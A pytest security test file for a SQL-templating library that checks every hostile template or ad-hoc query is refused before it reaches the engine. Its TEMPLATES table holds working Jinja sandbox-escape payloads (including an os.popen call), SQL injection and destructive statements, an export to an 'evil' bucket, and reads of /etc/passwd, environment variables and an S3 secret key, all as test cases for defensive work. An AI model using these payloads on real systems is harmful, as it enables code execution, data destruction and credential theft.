"""Hostile templates and ad-hoc SQL: every case is refused before any engine runs.

The client under test is a real DuckDB engine whose export was deleted after it
connected (``tripwire``): anything that reaches ``Engine.execute`` fails with a
``SourceError``. A case passes only with a ``TemplateError``/``ValidationError`` that
names the template file and the line of the hostile text.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

import idcbq
from idcbq.errors import SourceError, TemplateError, ValidationError
from tests.tiny_export import write_tiny_export

HEADER = "/*---\nname: {name}\ndescription: hostile case\n---*/\n"
BODY_LINE = 5  # first body line of a template written with HEADER


@pytest.fixture(scope="module")
def tripwire(tmp_path_factory):
    """A Client on a real DuckDB engine whose Parquet files are gone: execute() fails loudly."""
    root = write_tiny_export(tmp_path_factory.mktemp("tripwire"), rows=40, files=1)
    tdir = tmp_path_factory.mktemp("hostile-templates")
    for name, body in TEMPLATES.items():
        (tdir / f"hostile.{name}.sql").write_text(HEADER.format(name=f"hostile.{name}") + body)
    client = idcbq.connect("duckdb", source=root, templates=[tdir])
    shutil.rmtree(Path(root) / "bigquery_export")
    client.template_dir = tdir
    yield client
    client.close()


def test_tripwire_fires_when_the_engine_runs(tripwire):
    """Control: a harmless query does reach the engine and fails there (so it would show)."""
    with pytest.raises(SourceError):
        tripwire.sql("SELECT SeriesInstanceUID FROM dicom_all")
    with pytest.raises(SourceError):
        tripwire.query("hostile.control")


# name -> body. The line the error must point at carries the marker "--!" (for scripts:
# where the second statement starts); Jinja cases put the escape on the second body line.
TEMPLATES = {
    "control": "SELECT SeriesInstanceUID\nFROM {{ table('dicom_all') }}\n",
    # --- Jinja sandbox escapes
    "globals": "SELECT 1\n{{ table.__globals__ }}\n",
    "class_mro": "SELECT 1\n{{ ''.__class__.__mro__[1].__subclasses__() }}\n",
    "class_mro_call": "SELECT 1\n{{ ''.__class__.mro() }}\n",
    "attr_filter": "SELECT 1\n{{ table|attr('__globals__') }}\n",
    "attr_filter_chain": "SELECT 1\n{{ (''|attr('__class__')|attr('__base__')).__subclasses__() }}\n",
    "cycler": "SELECT 1\n{{ cycler.__init__.__globals__.os }}\n",
    "lipsum": "SELECT 1\n{{ lipsum.__globals__['os'].popen('id').read() }}\n",
    "self_context": "SELECT 1\n{{ self._TemplateReference__context.cycler }}\n",
    "self_dict": "SELECT 1\n{{ self.__dict__ }}\n",
    "request": "SELECT 1\n{{ request.application.__globals__ }}\n",
    "config": "SELECT 1\n{{ config.items() }}\n",
    "namespace": "SELECT 1\n{{ namespace(a=1) }}\n",
    "range_dos": "SELECT 1\n{% for i in range(10**9) %}{% endfor %}\n",
    "power_dos": "SELECT 1\n{{ 10**10**10 }}\n",
    "repeat_dos": "SELECT 1\n{{ 'x' * 1000000000 }}\n",
    "format_attr": "SELECT 1\n{{ '{0.__globals__}'.format(table) }}\n",
    "format_map": "SELECT 1\n{{ '{t.__globals__}'.format_map({'t': table}) }}\n",
    "percent_format": "SELECT 1\n{{ '%s'|format(table.__globals__) }}\n",
    "func_code": "SELECT 1\n{{ table.__code__.co_consts }}\n",
    "mutate": "SELECT 1\n{% set xs = [] %}{{ xs.append(1) }}\n",
    "getattr_str": "SELECT 1\n{{ table['__globals__'] }}\n",
    "param_value": "SELECT 1\nWHERE x = '{{ collection_id }}'\n",
    "table_name_injection": "SELECT 1\nFROM {{ table('dicom_all` ; DROP TABLE x; --') }}\n",
    "table_outside": "SELECT 1\nFROM {{ table('../../other.secret') }}\n",
    # --- statements that are not read-only queries (marker: --!)
    "delete": "DELETE FROM {{ table('dicom_all') }} WHERE TRUE --!\n",
    "insert": "INSERT INTO {{ table('dicom_all') }} (Modality) --!\nSELECT 'x'\n",
    "update": "UPDATE {{ table('dicom_all') }} SET Modality = 'x' WHERE TRUE --!\n",
    "drop": "DROP TABLE {{ table('dicom_all') }} --!\n",
    "create": "CREATE TABLE evil.t AS --!\nSELECT * FROM {{ table('dicom_all') }}\n",
    "truncate": "TRUNCATE TABLE {{ table('dicom_all') }} --!\n",
    "alter": "ALTER TABLE {{ table('dicom_all') }} DROP COLUMN Modality --!\n",
    "export": "EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS --!\n"
    "SELECT * FROM {{ table('dicom_all') }}\n",
    "merge": "MERGE evil.t T USING {{ table('dicom_all') }} S ON FALSE --!\n"
    "WHEN NOT MATCHED THEN INSERT ROW\n",
    "declare": "DECLARE x INT64 DEFAULT 1;\nSELECT x --!\n",
    "execute_immediate": "EXECUTE IMMEDIATE 'DELETE FROM t WHERE TRUE' --!\n",
    "begin_end": "BEGIN\nSELECT 1;\nEND --!\n",
    "call": "CALL evil.proc() --!\n",
    "set_var": "SET @@query_label = 'x' --!\n",
    "two_statements": "SELECT 1 FROM {{ table('dicom_all') }};\nDELETE FROM t WHERE TRUE --!\n",
    "semicolon_after_line_comment": "SELECT 1 FROM {{ table('dicom_all') }} -- just a note\n"
    "; DROP TABLE t --!\n",
    "semicolon_after_hash_comment": "SELECT 1 FROM {{ table('dicom_all') }} # note\n"
    "; DROP TABLE t --!\n",
    "semicolon_after_block_comment": "SELECT 1 FROM {{ table('dicom_all') }} /* ; */\n"
    "; DROP TABLE t --!\n",
    "create_function": "CREATE TEMP FUNCTION f() AS (1);\nSELECT f() --!\n",
    # --- tables outside the allow-list
    "cte": "WITH x AS (SELECT * FROM evil.secret) --!\nSELECT * FROM x\n",
    "subquery": "SELECT * FROM {{ table('dicom_all') }}\n"
    "WHERE SOPInstanceUID IN (SELECT id FROM evil.ids) --!\n",
    "unnest": "SELECT u FROM {{ table('dicom_all') }},\n"
    "UNNEST((SELECT ARRAY_AGG(id) FROM evil.ids)) AS u --!\n",
    "join": "SELECT d.SeriesInstanceUID FROM {{ table('dicom_all') }} d\n"
    "JOIN `other-proj.idc_v25.dicom_all` o ON TRUE --!\n",
    "union": "SELECT SeriesInstanceUID FROM {{ table('dicom_all') }}\n"
    "UNION ALL SELECT id FROM evil.t --!\n",
    "except": "SELECT SeriesInstanceUID FROM {{ table('dicom_all') }}\n"
    "EXCEPT DISTINCT SELECT id FROM evil.t --!\n",
    "comment_smuggle": "SELECT SeriesInstanceUID FROM {{ table('dicom_all') }} /* */\n"
    ", other.secret --!\n",
    "information_schema": "SELECT * FROM `bigquery-public-data.idc_v25.INFORMATION_SCHEMA.TABLES` --!\n",
    "information_schema_region": "SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS --!\n",
    "wildcard": "SELECT * FROM `bigquery-public-data.idc_v25.dicom_*` --!\n",
    "wildcard_dataset": "SELECT * FROM `bigquery-public-data.idc_v2*.dicom_all` --!\n",
    "read_parquet": "SELECT * FROM read_parquet('/etc/passwd') --!\n",
    "read_csv_join": "SELECT * FROM {{ table('dicom_all') }},\nread_csv('/etc/passwd') --!\n",
    "glob": "SELECT * FROM glob('/*') --!\n",
    "getenv": "SELECT getenv('HOME') AS h --!\nFROM {{ table('dicom_all') }}\n",
    "getenv_qualified": "SELECT main.getenv('HOME') AS h --!\nFROM {{ table('dicom_all') }}\n",
    "read_text_scalar": "SELECT SeriesInstanceUID FROM {{ table('dicom_all') }}\n"
    "WHERE Modality = (SELECT content FROM read_text('/etc/passwd')) --!\n",
    "current_setting": "SELECT current_setting('s3_secret_access_key') AS s --!\n"
    "FROM {{ table('dicom_all') }}\n",
    "file_as_table": "SELECT * FROM `/etc/passwd` --!\n",
    "parquet_file_as_table": "SELECT * FROM `secret.parquet` --!\n",
    "sqlite_master": "SELECT * FROM sqlite_master --!\n",
    "system_variable": "SELECT @@project_id AS p --!\nFROM {{ table('dicom_all') }}\n",
    "external_query": "SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT 1') --!\n",
}

JINJA_CASES = [
    "globals", "class_mro", "class_mro_call", "attr_filter", "attr_filter_chain", "cycler",
    "lipsum", "self_context", "self_dict", "request", "config", "namespace", "range_dos",
    "power_dos", "repeat_dos",
    "format_attr", "format_map", "percent_format", "func_code", "mutate", "getattr_str",
    "param_value", "table_name_injection", "table_outside",
]  # fmt: skip
SQL_CASES = [n for n in TEMPLATES if n not in JINJA_CASES and n != "control"]


def _hostile_line(client, name: str) -> tuple[Path, int, str]:
    path = client.template_dir / f"hostile.{name}.sql"
    lines = path.read_text().splitlines()
    if name in JINJA_CASES:
        return path, BODY_LINE + 1, lines[BODY_LINE]
    (idx,) = [i for i, line in enumerate(lines) if "--!" in line]
    return path, idx + 1, lines[idx]


@pytest.mark.parametrize("name", JINJA_CASES)
def test_jinja_escape_refused(tripwire, name):
    path, line, text = _hostile_line(tripwire, name)
    with pytest.raises(TemplateError) as info:
        tripwire.query(f"hostile.{name}")
    err = info.value
    assert not isinstance(err, SourceError)
    assert err.location is not None and err.location.path == str(path), str(err)
    assert err.location.line == line, str(err)
    assert err.location.snippet == text
    # nothing from behind the sandbox leaks into the message (object reprs, addresses)
    assert " at 0x" not in str(err) and "<function" not in str(err) and "<module" not in str(err)


@pytest.mark.parametrize("name", SQL_CASES)
def test_hostile_sql_in_template_refused(tripwire, name):
    path, line, text = _hostile_line(tripwire, name)
    with pytest.raises(ValidationError) as info:
        tripwire.query(f"hostile.{name}")
    err = info.value
    assert err.location is not None and err.location.path == str(path), str(err)
    assert err.location.line == line, str(err)
    assert err.location.snippet == text


# Ad-hoc SQL may be a read-only BigQuery script (issue 20 §4: DECLARE, temporary SQL
# functions, IDC metadata views); templates stay single queries. The script cases that
# must still be refused are in test_declare_script_cannot_smuggle_statements and
# tests/scripts/corpus.yaml.
ADHOC_ALLOWED = ["declare", "create_function", "information_schema"]
#: A script is refused at its first statement that is not allowed (BEGIN, not END).
ADHOC_LINE = {"begin_end": 1}


@pytest.mark.parametrize("name", [n for n in SQL_CASES if n not in ADHOC_ALLOWED])
def test_hostile_adhoc_sql_refused(tripwire, name):
    """The same SQL typed ad hoc (``Client.sql``), with table() replaced by the bare name."""
    sql = TEMPLATES[name].replace("{{ table('dicom_all') }}", "dicom_all")
    lines = sql.splitlines()
    (idx,) = [i for i, line in enumerate(lines) if "--!" in line]
    with pytest.raises(ValidationError) as info:
        tripwire.sql(sql)
    err = info.value
    line = ADHOC_LINE.get(name, idx + 1)
    assert err.location.path == "<sql>" and err.location.line == line, str(err)


@pytest.mark.parametrize("name", ADHOC_ALLOWED)
def test_adhoc_scripts_and_metadata_views_pass_the_checks(tripwire, name):
    """Allowed ad hoc since issue 20 §4: they pass every check (the tripwire engine may
    then fail reading its deleted files, which is not a refusal)."""
    sql = TEMPLATES[name].replace("{{ table('dicom_all') }}", "dicom_all")
    try:
        result = tripwire.sql(sql)
    except SourceError:
        return
    assert result.table.num_columns >= 1


@pytest.mark.parametrize(
    "sql",
    [
        # a DECLARE block is how ad-hoc SQL declares typed parameters; it must not carry code
        "DECLARE x STRING DEFAULT 'a';\nDELETE FROM dicom_all WHERE TRUE",
        "DECLARE x STRING DEFAULT (SELECT MAX(id) FROM evil.t);\nSELECT x FROM dicom_all",
        "DECLARE x STRING DEFAULT 'a';\nSELECT 1; DROP TABLE dicom_all",
        "DECLARE x STRING DEFAULT 'a';\nSELECT * FROM read_parquet('/etc/passwd')",
    ],
)
def test_declare_script_cannot_smuggle_statements(tripwire, sql):
    with pytest.raises(TemplateError) as info:  # ValidationError or TranspileError
        tripwire.sql(sql)
    assert not isinstance(info.value, SourceError)
    assert info.value.location is None or info.value.location.path == "<sql>"


def test_comment_text_never_becomes_engine_code(sample_root):
    """A comment that tries to close itself stays a comment in the DuckDB SQL."""
    sql = (
        "SELECT COUNT(*) AS n -- */ ; DROP TABLE dicom_all; /*\n"
        "FROM dicom_all # */ UNION ALL SELECT 1 /*\n"
        "WHERE Modality = @m /* */"
    )
    with idcbq.connect("duckdb", source=sample_root) as client:
        prepared = client.prepare_sql(sql, params={"m": "CT"})
        import sqlglot

        tree = sqlglot.parse(prepared.sql, read="duckdb")
        assert len(tree) == 1, prepared.sql
        assert not list(tree[0].find_all(sqlglot.exp.Drop, sqlglot.exp.Union)), prepared.sql
        (n,) = client.sql(sql, params={"m": "CT"}).to_arrow().column("n").to_pylist()
        (expected,) = (
            client.sql(
                "SELECT COUNT(*) AS n FROM dicom_all WHERE Modality = @m", params={"m": "CT"}
            )
            .to_arrow()
            .column("n")
            .to_pylist()
        )
        assert n == expected > 0
